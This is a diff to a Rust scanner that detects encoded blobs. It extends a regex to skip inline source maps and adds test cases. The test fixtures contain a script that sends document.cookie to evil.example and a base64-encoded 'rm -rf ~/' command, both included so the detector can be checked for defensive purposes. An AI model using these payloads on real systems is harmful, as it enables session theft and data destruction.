@@ -34,8 +34,9 @@ pub(crate) struct Blob {
 /// the same byte (the more specific first).
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 enum Enc {
-    /// A JWT (or its header alone, as documentation shortens one) or a
-    /// media `data:` URI: consumed, never decoded.
+    /// A JWT (or its header alone, as documentation shortens one), a media
+    /// `data:` URI (but SVG, which is text) or an inline source map:
+    /// consumed, never decoded.
     Skip,
     Escapes,
     CharCodes,
@@ -57,7 +58,7 @@ fn re(pattern: &str) -> Regex {
 
 static SKIP: LazyLock<Regex> = LazyLock::new(|| {
     re(
-        r"eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*|eyJ(?:hbGci|0eXAi|raWQi)[A-Za-z0-9_.-]*|data:(?:image|font|audio|video)/[A-Za-z0-9.+-]{1,40};base64,[A-Za-z0-9+/=]*",
+        r"eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*|eyJ(?:hbGci|0eXAi|raWQi)[A-Za-z0-9_.-]*|data:(?:image|font|audio|video)/[A-Za-z0-9.+-]{1,40};base64,[A-Za-z0-9+/=]*|sourceMappingURL=data:[^\s]*",
     )
 });
 static ESCAPES: LazyLock<Regex> = LazyLock::new(|| {
@@ -481,6 +482,16 @@ mod tests {
     }
 
     #[test]
+    fn a_data_uri_of_text_is_decoded() {
+        let html = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
+        let blob = one(&format!(
+            "<iframe src=\"data:text/html;base64,{}\">",
+            B64.encode(html)
+        ));
+        assert_eq!(blob.decoded, html);
+    }
+
+    #[test]
     fn url_safe_base64_without_padding() {
         let encoded = base64::engine::general_purpose::URL_SAFE_NO_PAD
             .encode("rm -rf ~/ --no-preserve-root?>>");
@@ -599,6 +610,7 @@ mod tests {
             "printf '%02x%02x%02x%02x%02x%02x'",
             "<xsd:complexType name=\"CT_FutureMetadataBlock\">",
             "Authorization: Bearer eyJhbGciOiJSUzI1NiIs...",
+            "//# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImEuanMiXX0=",
         ] {
             assert!(
                 blobs(text, 1 << 20).is_empty(),
